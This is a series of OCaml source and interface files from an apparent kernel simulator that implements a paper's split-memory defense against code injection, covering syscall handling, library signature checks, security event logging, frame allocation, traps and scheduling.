    | Some pte ->
      (* a frame published in the shared-image registry must be privatized
         before it can legitimately become writable (split pages already
         write to their private data copy) *)
      if writable && pte.split = None then begin
        let frame = Frame_alloc.unshare m.alloc pte.frame in
        if frame <> pte.frame then pte.frame <- frame
      end;
      pte.writable <- writable;
      pte.orig_writable <- writable;
      pte.nx <- m.protection.nx_hardware && not execable;
      Hw.Mmu.invlpg m.mmu vpn
    | None -> ()
  done;
  ret p 0

(* uselib(name): validate and map a dynamic library (paper S4.3) *)
let sys_uselib (m : M.t) (p : Proc.t) =
  let name = M.read_cstring m p (arg p Isa.Reg.EBX) ~max:64 in
  match Hashtbl.find_opt m.libraries name with
  | None -> ret p (-2)
  | Some lib ->
    if
      m.verify_signatures
      && not
           (Signature.verify
              [ name; string_of_int lib.lib_base; lib.code ]
              lib.lib_signature)
    then begin
      Event_log.add m.log (Library_rejected { name });
      ret p (-8)
    end
    else begin
      let lo = lib.lib_base / m.page_size in
      let hi = (lib.lib_base + String.length lib.code + m.page_size - 1) / m.page_size in
      (* idempotent: remapping the same prelinked range is harmless *)
      if Aspace.find_region p.aspace lo = None then
        Aspace.add_region p.aspace
          {
            lo;
            hi;
            kind = Pte.Lib;
            writable = false;
            execable = true;
            source = Image_bytes { base = lib.lib_base; bytes = lib.code };
            share = None;
          };
      M.sebek_trace m p "uselib" (Fmt.str "%S -> 0x%08x" name lib.lib_base);
      ret p lib.lib_base
    end

(* sched_yield() *)
let sys_sched_yield (_m : M.t) p = ret p 0

(* nanosleep(cycles) — block until the cycle counter reaches now + EBX.
   Unlike the I/O waits this must not go through [M.block]: a restarted
   sleep would recompute its deadline from the later clock and never
   expire. The return value is staged up front and the process resumes
   *after* the [int 0x80] when the deadline passes. *)
let sys_nanosleep (m : M.t) (p : Proc.t) =
  let d = arg p Isa.Reg.EBX in
  M.sebek_trace m p "nanosleep" (Fmt.str "%d cycles" d);
  ret p 0;
  if d > 0 then begin
    let until_ = m.cost.cycles + d in
    p.state <- Proc.Blocked (Proc.Sleep until_);
    M.register_wait m p (Proc.Sleep until_)
  end

(* ------------------------------------------------------------------ *)
(* The default (Linux-numbered) table                                  *)
(* ------------------------------------------------------------------ *)

let default_entries : (int * string * handler) list =
  [
    (1, "exit", sys_exit);
    (2, "fork", sys_fork);
    (3, "read", sys_read);
    (4, "write", sys_write);
    (6, "close", sys_close);
    (7, "waitpid", sys_waitpid);
    (11, "execve", sys_execve);
    (13, "time", sys_time);
    (20, "getpid", sys_getpid);
    (42, "pipe", sys_pipe);
    (45, "brk", sys_brk);
    (48, "sigrecover", sys_sigrecover);
    (90, "mmap", sys_mmap);
    (125, "mprotect", sys_mprotect);
    (137, "uselib", sys_uselib);
    (158, "sched_yield", sys_sched_yield);
    (162, "nanosleep", sys_nanosleep);
  ]

let default_table =
  lazy
    (let t = create () in
     List.iter (fun (n, name, h) -> register t n ~name h) default_entries;
     t)

let default () = Lazy.force default_table

(* ------------------------------------------------------------------ *)
(* Dispatch                                                            *)
(* ------------------------------------------------------------------ *)

let run_handler t m p n =
  match Hashtbl.find_opt t.entries n with
  | Some e -> e.handler m p
  | None -> ret p (-38)

let dispatch t (m : M.t) (p : Proc.t) n =
  let go () =
    (* the two kernel-internal escapes every handler may take: a bad guest
       pointer (EFAULT) and physical-memory exhaustion (OOM-kill) *)
    try run_handler t m p n with
    | M.Efault -> ret p (-14)
    | Frame_alloc.Out_of_frames -> M.oom_kill m p
  in
  match m.syscall_tracer with
  | None -> go ()
  | Some tracer ->
    let args = (arg p Isa.Reg.EBX, arg p Isa.Reg.ECX, arg p Isa.Reg.EDX) in
    let since = m.cost.cycles in
    go ();
    let outcome =
      match p.state with
      | Proc.Zombie _ -> M.Exited
      | Proc.Blocked _ -> M.Blocked
      | Proc.Runnable -> M.Returned (Hw.Cpu.sign32 (arg p Isa.Reg.EAX))
    in
    tracer
      {
        sys_number = n;
        sys_name = name t n;
        sys_pid = p.pid;
        sys_args = args;
        sys_outcome = outcome;
        sys_cycles = m.cost.cycles - since;
      }
