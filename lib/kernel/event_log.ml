type event =
  | Exec_shell of { pid : int; path : string }
  | Injection_detected of { pid : int; eip : int; mode : string }
  | Shellcode_dump of { pid : int; eip : int; bytes : string }
  | Forensic_injected of { pid : int; new_eip : int }
  | Recovery_invoked of { pid : int; handler : int; faulting_eip : int }
  | Execution_trail of { pid : int; eips : int list }
  | Signal_delivered of { pid : int; signal : string }
  | Syscall_traced of { pid : int; name : string; info : string }
  | Process_exited of { pid : int; status : string }
  | Library_rejected of { name : string }
  | Fault_detected of { pid : int; kind : string; action : string }
  | Note of string

let pp_event ppf = function
  | Exec_shell { pid; path } -> Fmt.pf ppf "[pid %d] execve(%S) -> shell spawned" pid path
  | Injection_detected { pid; eip; mode } ->
    Fmt.pf ppf "[pid %d] code injection detected at eip=0x%08x (mode=%s)" pid eip mode
  | Shellcode_dump { pid; eip; bytes } ->
    Fmt.pf ppf "[pid %d] shellcode at eip=0x%08x: %s" pid eip
      (String.concat " " (List.init (String.length bytes) (fun i -> Fmt.str "%02x" (Char.code bytes.[i]))))
  | Forensic_injected { pid; new_eip } ->
    Fmt.pf ppf "[pid %d] forensic shellcode injected, eip=0x%08x" pid new_eip
  | Recovery_invoked { pid; handler; faulting_eip } ->
    Fmt.pf ppf "[pid %d] recovery handler 0x%08x invoked (attack eip=0x%08x)" pid handler
      faulting_eip
  | Execution_trail { pid; eips } ->
    Fmt.pf ppf "[pid %d] trail: %s" pid
      (String.concat " -> " (List.map (Fmt.str "0x%08x") eips))
  | Signal_delivered { pid; signal } -> Fmt.pf ppf "[pid %d] killed by %s" pid signal
  | Syscall_traced { pid; name; info } -> Fmt.pf ppf "[sebek pid %d] %s %s" pid name info
  | Process_exited { pid; status } -> Fmt.pf ppf "[pid %d] exited: %s" pid status
  | Library_rejected { name } -> Fmt.pf ppf "library %S rejected: bad signature" name
  | Fault_detected { pid; kind; action } ->
    Fmt.pf ppf "[pid %d] hardware fault detected: kind=%s action=%s" pid kind action
  | Note s -> Fmt.string ppf s

let tag = function
  | Exec_shell _ -> "exec_shell"
  | Injection_detected _ -> "injection_detected"
  | Shellcode_dump _ -> "shellcode_dump"
  | Forensic_injected _ -> "forensic_injected"
  | Recovery_invoked _ -> "recovery_invoked"
  | Execution_trail _ -> "execution_trail"
  | Signal_delivered _ -> "signal_delivered"
  | Syscall_traced _ -> "syscall_traced"
  | Process_exited _ -> "process_exited"
  | Library_rejected _ -> "library_rejected"
  | Fault_detected _ -> "fault_detected"
  | Note _ -> "note"

type t = {
  mutable events : event list;
  mutable obs : Obs.t;
  mutable subscribers : (event -> unit) list;
}

let create () = { events = []; obs = Obs.null; subscribers = [] }

let attach_obs t obs = t.obs <- obs
let subscribe t f = t.subscribers <- t.subscribers @ [ f ]

let add t e =
  t.events <- e :: t.events;
  (* the kernel log doubles as a trace producer: each security event also
     lands in the cycle-stamped trace stream when observability is on *)
  if Obs.enabled t.obs then
    Obs.event t.obs ~cat:"log" (tag e)
      ~args:[ ("text", Obs.Json.Str (Fmt.str "%a" pp_event e)) ];
  List.iter (fun f -> f e) t.subscribers

let set_events t events = t.events <- List.rev events
let note t fmt = Fmt.kstr (fun s -> add t (Note s)) fmt
let to_list t = List.rev t.events
let count t pred = List.length (List.filter pred (to_list t))

let find_first t pred = List.find_opt pred (to_list t)

let shell_spawned t =
  List.exists (function Exec_shell _ -> true | _ -> false) (to_list t)

let detections t =
  List.filter_map
    (function Injection_detected { pid; eip; mode } -> Some (pid, eip, mode) | _ -> None)
    (to_list t)

let pp ppf t = Fmt.(list ~sep:(any "@\n") pp_event) ppf (to_list t)
