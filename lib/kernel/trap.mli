(** The trap layer: a first-class trap type unifying the CPU's step
    outcomes, and the dispatch pipeline routing each class through the
    {!Protection.t} hooks.

    This boundary is where the paper's defense lives: Algorithm 1 runs in
    the page-fault handler, Algorithm 2 in the debug-interrupt handler,
    Algorithm 3 in the invalid-opcode handler (§5). The pipeline owns the
    cost-charging discipline for every class and the per-class
    observability instruments; {!Sched} calls {!deliver} once per executed
    instruction. *)

type t =
  | Page_fault of Hw.Mmu.fault
  | Syscall of int  (** EAX at [int 0x80] *)
  | Invalid_opcode of { eip : int; opcode : int }
  | General_protection of string
  | Debug_trap  (** #DB: trap flag was set when the instruction retired *)

val class_name : t -> string

val pp : Format.formatter -> t -> unit
(** One formatter for all classes; page faults print via
    {!Hw.Mmu.pp_fault}, the same formatter {!Hw.Cpu.pp_fault} uses. *)

val of_outcome : (Hw.Cpu.event, Hw.Cpu.fault) result -> t option
(** The primary trap of a step outcome; [None] for a plainly retired
    instruction. The #DB piggybacks on [Hw.Cpu.step.debug_trap] and is
    delivered after the primary outcome by {!deliver}. *)

val handle_tlb_miss : Machine.t -> Proc.t -> Hw.Mmu.fault -> Pte.t -> unit
(** Software-managed-TLB miss service (paper §4.7): COW and permission
    checks, then the [on_tlb_fill] hook picks the frame to load. *)

val handle_page_fault : Machine.t -> Proc.t -> Hw.Mmu.fault -> unit
(** The page-fault handler: demand paging, COW, the Algorithm 1 hook
    ([on_protection_fault]), or SIGSEGV. *)

val serve : ?table:Syscalls.table -> Machine.t -> Proc.t -> t -> unit
(** Serve one trap: charge its cost, route it to its handler, feed the
    per-class metrics. [table] (default {!Syscalls.default}) is only
    consulted for [Syscall] traps. *)

val deliver : ?table:Syscalls.table -> Machine.t -> Proc.t -> Hw.Cpu.step -> unit
(** Deliver a whole step result: the primary outcome (a retired
    instruction charges and counts; a trap is {!serve}d), then the
    piggybacked #DB — after the primary outcome, and only if the process
    is still runnable, mirroring x86 delivery order. *)
