exception Out_of_frames

(* The free set is a word-bitmap (bit set = frame free) with two scan
   hints, making both [alloc] and [alloc_pair] O(1) amortized:

   - [hint_word] is a lower bound on the first word containing a free
     frame; [alloc] scans forward from it and takes the lowest set bit.
   - [pair_hint_word] is a lower bound on the first word containing an
     adjacent (even, even+1) pair — the dedicated pair free list the
     split-page path draws from, realized as a masked view of the same
     bitmap so singles and pairs never disagree about what is free.

   62 bits per word keeps the word base even, so an even frame always
   sits at an even bit offset and a pair never straddles a word: a word
   holds a pair iff [word land (word lsr 1) land pair_mask <> 0].

   Selection is deterministic lowest-address-first. Frames are zeroed on
   allocation, so which frame a request receives is invisible to guest
   execution and cost accounting — allocation order is pure layout. *)

let bits_per_word = 62
let pair_mask = 0x1555555555555555 (* bits 0,2,...,60 *)

type t = {
  phys : Hw.Phys.t;
  nframes : int;
  bits : int array;
  mutable free_count : int;
  mutable hint_word : int;
  mutable pair_hint_word : int;
  refcount : int array;
  mutable in_use : int;
  mutable peak_in_use : int;
  (* fault injection (lib/inject): pending count of allocations to fail
     with Out_of_frames regardless of actual free frames. Deliberately not
     part of [state]: it is injector state, not machine state, and rides in
     snapshot metadata instead. *)
  mutable deny_next : int;
  (* Shared-image registry: content key ("digest/vpn") -> frame, plus the
     reverse index used to drop entries when a frame's refcount hits zero
     and to privatize a registered frame before a write reaches it. Derived
     perf-only state: not serialized, cleared on [import]. *)
  shares : (string, int) Hashtbl.t;
  shared : (int, string) Hashtbl.t;
}

let set_bit t f = t.bits.(f / bits_per_word) <- t.bits.(f / bits_per_word) lor (1 lsl (f mod bits_per_word))
let clear_bit t f =
  t.bits.(f / bits_per_word) <- t.bits.(f / bits_per_word) land lnot (1 lsl (f mod bits_per_word))

let create phys =
  let n = Hw.Phys.frame_count phys in
  let nwords = ((n + bits_per_word - 1) / bits_per_word) + 1 in
  let t =
    {
      phys;
      nframes = n;
      bits = Array.make nwords 0;
      free_count = 0;
      hint_word = 0;
      pair_hint_word = 0;
      refcount = Array.make n 0;
      in_use = 0;
      peak_in_use = 0;
      deny_next = 0;
      shares = Hashtbl.create 64;
      shared = Hashtbl.create 64;
    }
  in
  (* Frame 0 is reserved as a never-allocated null frame. *)
  for frame = 1 to n - 1 do
    set_bit t frame
  done;
  t.free_count <- max 0 (n - 1);
  t

let in_use t = t.in_use
let peak_in_use t = t.peak_in_use
let set_deny_next t n = t.deny_next <- max 0 n
let deny_next t = t.deny_next

let denied t =
  t.deny_next > 0
  && begin
       t.deny_next <- t.deny_next - 1;
       true
     end

let ctz x =
  let n = ref 0 and x = ref x in
  while !x land 1 = 0 do
    incr n;
    x := !x lsr 1
  done;
  !n

let take t frame =
  clear_bit t frame;
  t.free_count <- t.free_count - 1;
  t.refcount.(frame) <- 1;
  Hw.Phys.fill t.phys ~frame 0;
  t.in_use <- t.in_use + 1;
  if t.in_use > t.peak_in_use then t.peak_in_use <- t.in_use

let alloc t =
  if denied t then raise Out_of_frames;
  let nwords = Array.length t.bits in
  let w = ref t.hint_word in
  while !w < nwords && t.bits.(!w) = 0 do
    incr w
  done;
  if !w >= nwords then raise Out_of_frames;
  t.hint_word <- !w;
  let frame = (!w * bits_per_word) + ctz t.bits.(!w) in
  take t frame;
  frame

let incref t frame =
  if t.refcount.(frame) <= 0 then invalid_arg "Frame_alloc.incref: frame not allocated";
  t.refcount.(frame) <- t.refcount.(frame) + 1

let refcount t frame = t.refcount.(frame)

let decref t frame =
  if t.refcount.(frame) <= 0 then invalid_arg "Frame_alloc.decref: frame not allocated";
  t.refcount.(frame) <- t.refcount.(frame) - 1;
  if t.refcount.(frame) = 0 then begin
    (match Hashtbl.find_opt t.shared frame with
    | Some key ->
      Hashtbl.remove t.shared frame;
      Hashtbl.remove t.shares key
    | None -> ());
    t.in_use <- t.in_use - 1;
    set_bit t frame;
    t.free_count <- t.free_count + 1;
    let w = frame / bits_per_word in
    if w < t.hint_word then t.hint_word <- w;
    if w < t.pair_hint_word then t.pair_hint_word <- w
  end

let free_frames t = t.free_count

(* ------------------------------------------------------------------ *)
(* Shared-image registry (loader COW)                                  *)
(* ------------------------------------------------------------------ *)

let register_share t ~key ~frame =
  if t.refcount.(frame) <= 0 then
    invalid_arg "Frame_alloc.register_share: frame not allocated";
  Hashtbl.replace t.shares key frame;
  Hashtbl.replace t.shared frame key

let find_share t key = Hashtbl.find_opt t.shares key
let is_shared t frame = Hashtbl.mem t.shared frame

(* Privatize a registered frame ahead of a store that must not leak to the
   other mappings: with sharers, hand back a fresh private copy (the
   registry keeps serving the pristine original); as the sole owner, just
   unregister so future loads stop joining this frame. Frames never
   registered — including every pre-existing fork-COW sharing — pass
   through untouched, preserving the seed kernel's aliasing semantics. *)
let unshare t frame =
  match Hashtbl.find_opt t.shared frame with
  | None -> frame
  | Some key ->
    if t.refcount.(frame) > 1 then begin
      let fresh = alloc t in
      Hw.Phys.copy_frame t.phys ~src:frame ~dst:fresh;
      t.refcount.(frame) <- t.refcount.(frame) - 1;
      fresh
    end
    else begin
      Hashtbl.remove t.shared frame;
      Hashtbl.remove t.shares key;
      frame
    end

type state = {
  s_free : int list;  (* free frames, ascending *)
  s_refcount : int array;
  s_in_use : int;
  s_peak_in_use : int;
}

let export t =
  let free = ref [] in
  for f = t.nframes - 1 downto 1 do
    if t.bits.(f / bits_per_word) land (1 lsl (f mod bits_per_word)) <> 0 then
      free := f :: !free
  done;
  {
    s_free = !free;
    s_refcount = Array.copy t.refcount;
    s_in_use = t.in_use;
    s_peak_in_use = t.peak_in_use;
  }

let import t (s : state) =
  if Array.length s.s_refcount <> Array.length t.refcount then
    invalid_arg "Frame_alloc.import: frame count mismatch";
  (* The free set is order-insensitive here: selection is lowest-first, so
     the bitmap re-derived from any permutation of [s_free] resumes the
     exact allocation sequence. *)
  Hashtbl.reset t.shares;
  Hashtbl.reset t.shared;
  Array.fill t.bits 0 (Array.length t.bits) 0;
  List.iter (fun f -> set_bit t f) s.s_free;
  t.free_count <- List.length s.s_free;
  t.hint_word <- 0;
  t.pair_hint_word <- 0;
  Array.blit s.s_refcount 0 t.refcount 0 (Array.length t.refcount);
  t.in_use <- s.s_in_use;
  t.peak_in_use <- s.s_peak_in_use

(* Adjacent-pair allocation: the paper's prototype creates the two copies
   of a split page "side-by-side" so the partner is found by frame
   arithmetic (even frame = code copy, +1 = data copy). A word holds a
   pair iff both halves of some even bit position are set; failure leaves
   the free set untouched (no pop/push churn to re-order). *)
let alloc_pair t =
  if denied t then raise Out_of_frames;
  let nwords = Array.length t.bits in
  let pair_bits w = w land (w lsr 1) land pair_mask in
  let w = ref t.pair_hint_word in
  while !w < nwords && pair_bits t.bits.(!w) = 0 do
    incr w
  done;
  if !w >= nwords then raise Out_of_frames;
  t.pair_hint_word <- !w;
  let even = (!w * bits_per_word) + ctz (pair_bits t.bits.(!w)) in
  take t even;
  take t (even + 1);
  (even, even + 1)
