exception Out_of_frames

type t = {
  phys : Hw.Phys.t;
  free : int Stack.t;
  refcount : int array;
  mutable in_use : int;
  mutable peak_in_use : int;
  (* fault injection (lib/inject): pending count of allocations to fail
     with Out_of_frames regardless of actual free frames. Deliberately not
     part of [state]: it is injector state, not machine state, and rides in
     snapshot metadata instead. *)
  mutable deny_next : int;
}

let create phys =
  let n = Hw.Phys.frame_count phys in
  let free = Stack.create () in
  (* Frame 0 is reserved as a never-allocated null frame. *)
  for frame = n - 1 downto 1 do
    Stack.push frame free
  done;
  { phys; free; refcount = Array.make n 0; in_use = 0; peak_in_use = 0; deny_next = 0 }

let in_use t = t.in_use
let peak_in_use t = t.peak_in_use
let set_deny_next t n = t.deny_next <- max 0 n
let deny_next t = t.deny_next

let denied t =
  t.deny_next > 0
  && begin
       t.deny_next <- t.deny_next - 1;
       true
     end

let alloc t =
  if denied t then raise Out_of_frames;
  match Stack.pop_opt t.free with
  | None -> raise Out_of_frames
  | Some frame ->
    t.refcount.(frame) <- 1;
    Hw.Phys.fill t.phys ~frame 0;
    t.in_use <- t.in_use + 1;
    if t.in_use > t.peak_in_use then t.peak_in_use <- t.in_use;
    frame

let incref t frame =
  if t.refcount.(frame) <= 0 then invalid_arg "Frame_alloc.incref: frame not allocated";
  t.refcount.(frame) <- t.refcount.(frame) + 1

let refcount t frame = t.refcount.(frame)

let decref t frame =
  if t.refcount.(frame) <= 0 then invalid_arg "Frame_alloc.decref: frame not allocated";
  t.refcount.(frame) <- t.refcount.(frame) - 1;
  if t.refcount.(frame) = 0 then begin
    t.in_use <- t.in_use - 1;
    Stack.push frame t.free
  end

let free_frames t = Stack.length t.free

type state = {
  s_free : int list;  (* top of stack first *)
  s_refcount : int array;
  s_in_use : int;
  s_peak_in_use : int;
}

let export t =
  {
    s_free = List.of_seq (Stack.to_seq t.free);
    s_refcount = Array.copy t.refcount;
    s_in_use = t.in_use;
    s_peak_in_use = t.peak_in_use;
  }

let import t (s : state) =
  if Array.length s.s_refcount <> Array.length t.refcount then
    invalid_arg "Frame_alloc.import: frame count mismatch";
  Stack.clear t.free;
  List.iter (fun f -> Stack.push f t.free) (List.rev s.s_free);
  Array.blit s.s_refcount 0 t.refcount 0 (Array.length t.refcount);
  t.in_use <- s.s_in_use;
  t.peak_in_use <- s.s_peak_in_use

(* Adjacent-pair allocation: the paper's prototype creates the two copies
   of a split page "side-by-side" so the partner is found by frame
   arithmetic (even frame = code copy, +1 = data copy). Pairs come from a
   dedicated free list plus a search of the general free list. *)
let alloc_pair t =
  if denied t then raise Out_of_frames;
  let pending = ref [] in
  let rec hunt () =
    match Stack.pop_opt t.free with
    | None -> None
    | Some f ->
      if f land 1 = 0 && t.refcount.(f) = 0 && f + 1 < Array.length t.refcount
         && t.refcount.(f + 1) = 0
         && List.exists (fun g -> g = f + 1) !pending
      then Some f
      else if f land 1 = 1 && f - 1 > 0 && t.refcount.(f) = 0 && t.refcount.(f - 1) = 0
              && List.exists (fun g -> g = f - 1) !pending
      then Some (f - 1)
      else begin
        pending := f :: !pending;
        hunt ()
      end
  in
  let found =
    (* fast path: two consecutive pops that happen to be adjacent *)
    hunt ()
  in
  match found with
  | None ->
    List.iter (fun f -> Stack.push f t.free) !pending;
    raise Out_of_frames
  | Some even ->
    List.iter
      (fun f -> if f <> even && f <> even + 1 then Stack.push f t.free)
      !pending;
    t.refcount.(even) <- 1;
    t.refcount.(even + 1) <- 1;
    Hw.Phys.fill t.phys ~frame:even 0;
    Hw.Phys.fill t.phys ~frame:(even + 1) 0;
    t.in_use <- t.in_use + 2;
    if t.in_use > t.peak_in_use then t.peak_in_use <- t.in_use;
    (even, even + 1)
