(** The syscall layer: a declarative table mapping syscall numbers to
    named handlers.

    Syscalls are registered {e data}: adding one is a {!register} call, and
    the dispatcher never changes. {!dispatch} routes a number through the
    table, maps the kernel-internal escapes ([Efault] -> [-EFAULT],
    out-of-frames -> OOM-kill) and reports to the machine's
    [syscall_tracer] when one is installed — the mechanism behind simctl's
    [--strace]. *)

type handler = Machine.t -> Proc.t -> unit
(** A syscall body: reads its arguments from the process registers
    (EBX/ECX/EDX) and writes its result to EAX, blocks the process, or
    terminates it. *)

type entry = { name : string; handler : handler }

type table

val create : unit -> table
(** An empty table: every number dispatches to the ENOSYS fallback. *)

val register : table -> int -> name:string -> handler -> unit
(** [register t n ~name h] binds syscall number [n] (replacing any
    previous binding). *)

val find : table -> int -> entry option

val name : table -> int -> string
(** Registered name, or ["sys_<n>"] for unknown numbers. *)

val numbers : table -> int list
(** Registered numbers, sorted. *)

val default : unit -> table
(** The kernel's standard (Linux-numbered) table. Shared; treat as
    read-only and {!create} a fresh table to experiment. *)

val dispatch : table -> Machine.t -> Proc.t -> int -> unit
(** Route one syscall: runs the handler (or sets EAX to [-ENOSYS] for an
    unknown number), converting [Machine.Efault] to [-EFAULT] and
    [Frame_alloc.Out_of_frames] to an OOM SIGKILL. When the machine has a
    [syscall_tracer], captures args/outcome/service-cycles around the call
    and reports a {!Machine.syscall_trace}. *)
