(** Executable images — the simulator's stand-in for ELF binaries.

    An image is a set of signed segments laid out at the canonical
    {!Layout} addresses, plus an entry point and a BSS size. {!build}
    assembles multi-segment guest programs with cross-segment label
    resolution (a two-pass fixpoint: label addresses never change sizes). *)

type seg_kind = Code | Rodata | Data | Mixed | Lib

val seg_kind_name : seg_kind -> string

type segment = { base : int; bytes : string; kind : seg_kind; writable : bool }

type t = {
  name : string;
  segments : segment list;
  entry : int;
  bss_size : int;
  signature : int;
  labels : (string, int) Hashtbl.t;  (** all labels, including specials *)
}

exception Unknown_label of string

type builder = lbl:(string -> int) -> Isa.Asm.program
(** A program parameterized over a label resolver. The resolver knows every
    label of every segment plus the specials ["bss"], ["heap"],
    ["stack_top"], ["initial_esp"]. *)

val no_program : builder

val build :
  name:string ->
  ?rodata:Isa.Asm.program ->
  ?lib:Isa.Asm.program ->
  ?bss_size:int ->
  ?data:builder ->
  ?mixed:builder ->
  code:builder ->
  entry:string ->
  unit ->
  t
(** Assemble and seal an image. [code] loads at {!Layout.code_base},
    [rodata]/[lib]/[data]/[mixed] at their canonical bases. [mixed] is a
    writable segment that may also contain code — the "mixed code and data
    page" case of the paper's Fig. 1b.
    @raise Unknown_label on a reference to an undefined label. *)

val signable : t -> string list
(** The canonical string rendering of everything the signature covers —
    also the input to the loader's content digest (shared-image COW). *)

val seal : t -> t
(** Recompute the signature (what a trusted build system does). *)

val verify : t -> bool
(** Check the signature — the loader's validation step (paper §4.3). *)

val tamper : t -> t
(** Flip a byte of the first segment without resealing (for tests). *)

val find_segment : t -> seg_kind -> segment option

val label : t -> string -> int
(** Address of a label. @raise Unknown_label. *)
