(** The scheduler layer: round-robin run loop, quantum accounting, timer
    ticks and fuel handling, extracted from the old kernel monolith. One
    executed instruction per loop iteration; any trap the instruction
    raised is handed to {!Trap.deliver}. *)

type stop_reason = All_exited | All_blocked | Fuel_exhausted

val wake : Machine.t -> unit
(** Scan blocked processes and requeue the ones whose wait condition now
    holds. *)

val dequeue_runnable : Machine.t -> Proc.t option
val all_zombie : Machine.t -> bool

val switch_to : Machine.t -> Proc.t -> unit
(** Context switch if [p] was not already running: charge it, load the
    process pagetables (flushing the TLBs). *)

val timer_tick : Machine.t -> unit

val run_quantum : ?table:Syscalls.table -> Machine.t -> Proc.t -> int ref -> unit
(** Run [p] for up to one quantum, decrementing [fuel] per instruction;
    requeues the process if it is still runnable. *)

val run : ?fuel:int -> ?table:Syscalls.table -> Machine.t -> stop_reason
(** Schedule until every process exited, everything blocked, or fuel ran
    out. [table] (default {!Syscalls.default}) is the syscall table traps
    dispatch through. *)

(** {2 Snapshot support} *)

type state = {
  s_runq : int list;  (** run queue, front first *)
  s_rng : Random.State.t;  (** deep copy of the kernel PRNG *)
  s_last_running : int option;
  s_next_pid : int;
  s_next_tick : int;
  s_ticks : int;
  s_lib_cursor : int;
}

val state : Machine.t -> state
(** Deep copy of scheduler/loader bookkeeping. *)

val restore : Machine.t -> state -> unit
