(** The scheduler layer: round-robin run loop, quantum accounting, timer
    ticks and fuel handling, extracted from the old kernel monolith. One
    executed instruction per loop iteration; any trap the instruction
    raised is handed to {!Trap.deliver}. *)

type stop_reason = All_exited | All_blocked | Fuel_exhausted

val ready : Machine.t -> Proc.t -> Proc.wait_cond -> bool
(** Does the wait condition hold right now? The one shared recheck both
    wake implementations use. *)

val wake : Machine.t -> unit
(** Event-driven wake: drain [Machine.pending_wakeups], recheck the
    candidates in ascending pid order, requeue the ready ones and
    re-register the rest. O(woken). *)

val wake_scan : Machine.t -> unit
(** The seed's reference implementation: scan every blocked process and
    requeue the ones whose wait condition now holds. O(processes). Kept
    for the wake-equivalence harness; also clears the pending list. *)

val dequeue_runnable : Machine.t -> Proc.t option
(** Pop the next runnable process, clearing its [in_runq] bit (and that of
    any stale queued pid skipped along the way). *)

val all_zombie : Machine.t -> bool

val switch_to : Machine.t -> Proc.t -> unit
(** Context switch if [p] was not already running: charge it, load the
    process pagetables (flushing the TLBs). *)

val timer_tick : Machine.t -> unit

val run_quantum : ?table:Syscalls.table -> Machine.t -> Proc.t -> int ref -> unit
(** Run [p] for up to one quantum, decrementing [fuel] per instruction;
    requeues the process if it is still runnable. *)

val run :
  ?fuel:int -> ?wake_scan:bool -> ?table:Syscalls.table -> Machine.t -> stop_reason
(** Schedule until every process exited, everything blocked, or fuel ran
    out. [table] (default {!Syscalls.default}) is the syscall table traps
    dispatch through. [wake_scan] (default [false]) selects the seed's
    scan-everything wake instead of the indexed one — the two are
    observably identical (test/test_wake_equiv.ml); the scan is O(procs)
    per boundary. *)

(** {2 Snapshot support} *)

type state = {
  s_runq : int list;  (** run queue, front first *)
  s_rng : Random.State.t;  (** deep copy of the kernel PRNG *)
  s_last_running : int option;
  s_next_pid : int;
  s_next_tick : int;
  s_ticks : int;
  s_lib_cursor : int;
}

val state : Machine.t -> state
(** Deep copy of scheduler/loader bookkeeping. *)

val restore : Machine.t -> state -> unit
