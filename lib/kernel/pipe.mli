(** Bounded byte FIFO: the kernel's pipe object, also used for process
    consoles (the "network" between exploit drivers and victim servers). *)

type t

val create : ?capacity:int -> name:string -> unit -> t
val name : t -> string
val level : t -> int
(** Bytes currently buffered. *)

val is_empty : t -> bool
val space : t -> int
val has_writers : t -> bool
val has_readers : t -> bool
val bytes_written : t -> int
(** Total bytes ever accepted (pipe-throughput metric). *)

val add_reader : t -> unit
val add_writer : t -> unit
val close_reader : t -> unit
val close_writer : t -> unit

val set_wakeup : t -> (int -> unit) -> unit
(** Attach the owning machine's wakeup sink. Every state change that could
    unblock a side ([write], [read]/[drain], the closing of the last
    endpoint of either side) reports each registered waiting pid through
    it. Defaults to [ignore]. *)

val add_read_waiter : t -> int -> unit
(** Register a pid blocked reading this pipe; dropped (and reported via the
    wakeup sink) at the next readability change. Idempotent. *)

val add_write_waiter : t -> int -> unit
(** Register a pid blocked writing this pipe. Idempotent. *)

val write : t -> string -> int
(** Append up to the available space; returns the number of bytes taken. *)

val read : t -> max:int -> string
(** Consume up to [max] buffered bytes (possibly [""]). *)

val drain : t -> string
(** Consume everything buffered. *)

type state = {
  s_name : string;
  s_capacity : int;
  s_pending : string;  (** buffered-but-unread bytes *)
  s_readers : int;
  s_writers : int;
  s_bytes_written : int;
}
(** Serializable pipe state. Consumed bytes are not preserved — only the
    unread window, endpoint counts and the throughput counter. *)

val export : t -> state
val import : state -> t
(** Build a fresh pipe holding exactly the exported state. *)
