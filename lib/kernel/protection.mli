(** The kernel's protection-mechanism interface.

    The paper implements split memory as a patch touching five kernel
    subsystems (loader, page-fault handler, debug-interrupt handler, memory
    management, signal handling). This interface is the seam those patches
    plug into: the split-memory module and the NX-bit baseline are both
    implementations of {!t}, and the stock kernel is {!none}. *)

type ctx = {
  phys : Hw.Phys.t;
  alloc : Frame_alloc.t;
  mmu : Hw.Mmu.t;
  cost : Hw.Cost.t;
  log : Event_log.t;
  obs : Obs.t;  (** trace/metrics sink ({!Obs.null} when disabled) *)
}

type fault_result =
  | Handled  (** fault serviced; restart the faulting instruction *)
  | Not_ours  (** pass on: the kernel delivers SIGSEGV *)

type opcode_verdict =
  | Benign  (** a genuine illegal instruction: deliver SIGILL *)
  | Resume  (** handled (e.g. observe mode locked the page); re-execute *)
  | Kill_process of string  (** detected attack, break mode: terminate *)

type fill_verdict =
  | Default_fill  (** load the TLB straight from the PTE *)
  | Fill of Hw.Tlb.entry  (** load this entry instead (split routing) *)
  | Deny_fill  (** refuse — treated as a protection violation *)

type t = {
  name : string;
  nx_hardware : bool;
      (** requires/enables execute-disable enforcement in the MMU *)
  dual_pagetables : bool;
      (** requires the §3.3.1 hardware modification: two pagetable
          registers, one walked on fetches and one on data accesses *)
  on_page_mapped : ctx -> Proc.t -> Aspace.region -> Pte.t -> unit;
      (** called by loader and demand pager right after a fresh mapping;
          may split the page or set its NX bit *)
  on_protection_fault : ctx -> Proc.t -> Hw.Mmu.fault -> fault_result;
      (** permission page fault the stock kernel cannot explain (COW is
          already handled); split memory services its supervisor faults
          here (Algorithm 1) *)
  on_debug_trap : ctx -> Proc.t -> bool;
      (** single-step interrupt; true = consumed (Algorithm 2) *)
